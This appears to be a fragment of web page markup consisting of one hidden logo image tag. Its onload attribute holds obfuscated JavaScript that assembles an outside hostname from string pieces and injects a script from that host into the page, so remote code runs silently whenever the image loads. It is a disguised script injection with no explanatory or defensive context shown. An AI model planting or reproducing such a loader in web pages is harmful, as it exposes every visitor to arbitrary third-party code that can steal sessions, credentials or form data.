<img src="/media/logo.png" onload="(function(){var a=document.createElement('script');a.src='//'+['on','load','-x'].join('')+'.example/a';document.body.appendChild(a)})()" style="display:none">
